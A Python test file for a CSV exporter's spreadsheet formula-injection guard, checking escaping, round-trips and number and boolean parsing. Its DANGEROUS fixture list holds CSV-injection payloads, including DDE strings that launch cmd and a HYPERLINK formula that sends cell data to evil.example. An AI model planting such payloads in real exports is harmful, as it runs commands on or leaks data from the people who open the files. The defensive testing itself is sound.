import csv
import datetime
import io
import uuid

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st

from annotations.exporters.csv import lines
from annotations.values.cells import cell, guard, read_cell, unguard

# Payloads known from CSV injection, and what trims or folds to one in some spreadsheet.
DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Ошибка")',
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "-1917",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@ленин",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "'",
    "''",
    "=",
    "-",
]
SAFE = [
    "",
    "Октябрьский переворот",
    "a=b",
    "1917",
    "1917-1923",
    "1-2",
    "x@y.example",
    "«=»",
    "“coup”",
    "ثورة أكتوبر",
    "Ἀθῆναι = πόλις",
    "👨‍👩‍👧 +1",
    "\xa0x",
    "‘цитата’",
    "|",
    "#REF!",
    "–1917",
    "— сказал он",
    "e\u0301=",
]

# Any text that PostgreSQL can hold, with more than chance would have of what is hard.
TEXTS = st.text(
    st.one_of(
        st.sampled_from("=+-@'\"|\\,; \t\r\n＝＋－＠\ufeff\xa0Ж"),
        st.characters(exclude_categories=["Cs"], exclude_characters="\0"),
    ),
    max_size=30,
)
ITEMS = TEXTS.filter(str.strip)


def through_a_file(value: object, kind: str, *, guarded: bool) -> object:
    """What is read back from the file that was written."""
    text = "".join(lines(["x", "y"], [[value, "Ж"]], kinds=[kind, "text"], guarded=guarded))
    header, row = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert (header, row[1]) == (["x", "y"], "Ж")
    return read_cell(row[0], kind)


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_could_take_for_a_formula_is_guarded(text):
    assert guard(text) == f"'{text}"
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", SAFE)
def test_what_is_harmless_stays_as_it_is(text):
    assert guard(text) == text
    assert unguard(text) == text


@given(TEXTS)
def test_no_guarded_text_begins_like_a_formula(text):
    assert not guard(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert unguard(guard(text)) == text


@given(TEXTS)
@example("'=1")
@example("\r")
@example("\ufeff")
def test_free_text_comes_back_from_a_guarded_file(text):
    assert through_a_file(text, "text", guarded=True) == text


@given(TEXTS)
def test_free_text_comes_back_from_a_file_without_guard(text):
    assume(unguard(text) == text)  # what looks guarded is read so
    assert through_a_file(text, "text", guarded=False) == text


@given(st.lists(ITEMS, max_size=5))
@example(["a | b", "c"])
@example(["a |", "| b"])
@example(["a\\", "b"])
@example(["\\|", "|\\"])
@example(["=1", "-2"])
@example([" a ", " b "])
@example(["'=x"])
def test_a_list_comes_back_from_a_guarded_file(items):
    for kind in ("list", "labels", "references"):
        assert through_a_file(items, kind, guarded=True) == items


@given(st.lists(ITEMS, max_size=5))
def test_a_list_comes_back_from_a_file_without_guard(items):
    assume(unguard(cell(items)) == cell(items))
    assert through_a_file(items, "list", guarded=False) == items


@pytest.mark.parametrize("payload", DANGEROUS)
def test_names_of_accounts_and_groups_are_guarded_like_any_text(payload):
    text = "".join(lines(["group"], [[payload]], kinds=["reference"]))
    assert next(csv.reader(io.StringIO(text.split("\r\n", 1)[1], newline="")))[0] == f"'{payload}"


@pytest.mark.parametrize("payload", [text for text in DANGEROUS if text.strip()])
def test_a_header_is_guarded_where_it_names_what_others_named(payload):
    text = "".join(lines([payload], [], kinds=["text"]))
    assert next(csv.reader(io.StringIO(text, newline=""))) == [f"'{payload}"]


def test_numbers_are_not_guarded():
    text = "".join(lines(["n", "b"], [[-5, True], [None, False]], kinds=["integer", "boolean"]))
    assert text == "n,b\r\n-5,true\r\n,false\r\n"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("", ""),
        (True, "true"),
        (0, "0"),
        ([], ""),
        (["красный", "белый"], "красный | белый"),
        (["a|b"], "a\\|b"),
        (uuid.UUID(int=7), "00000000-0000-0000-0000-000000000007"),
        (datetime.date(1917, 11, 7), "1917-11-07"),
        (datetime.datetime(1917, 11, 7, 21, 40, tzinfo=datetime.UTC), "1917-11-07T21:40:00Z"),
        (
            datetime.datetime(2024, 1, 1, 3, tzinfo=datetime.timezone(datetime.timedelta(hours=3))),
            "2024-01-01T00:00:00Z",
        ),
    ],
)
def test_a_value_as_a_cell(value, expected):
    assert cell(value) == expected


@pytest.mark.parametrize(
    ("text", "kind", "expected"),
    [
        ("", "text", ""),
        ("", "integer", None),
        ("", "reference", None),
        ("", "list", []),
        ("-12", "integer", -12),
        ("TRUE", "boolean", True),
        ("false", "boolean", False),
        ("'=1", "text", "=1"),
        ("'=1 | b", "list", ["=1", "b"]),
        ("'x", "text", "'x"),
        ("a|b", "list", ["a|b"]),
    ],
)
def test_a_cell_as_a_value(text, kind, expected):
    assert read_cell(text, kind) == expected


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("x", "integer"),
        ("1.5", "integer"),
        ("1.000", "integer"),
        ("1,000", "integer"),
        ("1.25e1", "integer"),
        ("1e999999999", "integer"),
        ("--5", "integer"),
        ("-", "integer"),
        ("²", "integer"),
        ("9" * 5000, "integer"),
        ("yes", "boolean"),
        ("1", "boolean"),
    ],
)
def test_what_is_no_number_and_no_truth_value_is_refused(text, kind):
    with pytest.raises(ValueError, match=r".+"):
        read_cell(text, kind)


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("3", 3),
        (" 3 ", 3),
        ("3.0", 3),
        ("3,00", 3),
        ("-5", -5),
        ("1e+05", 100_000),
        ("1.2E+05", 120_000),
        ("1,2E+05", 120_000),
    ],
)
def test_a_whole_number_is_read_however_a_program_writes_it(text, number):
    assert read_cell(text, "integer") == number


@pytest.mark.parametrize(
    ("text", "truth"), [("TRUE", True), ("False", False), ("WAHR", True), ("ЛОЖЬ", False), ("FAŁSZ", False)]
)
def test_truth_is_read_as_spreadsheets_say_it(text, truth):
    assert read_cell(text, "boolean") is truth
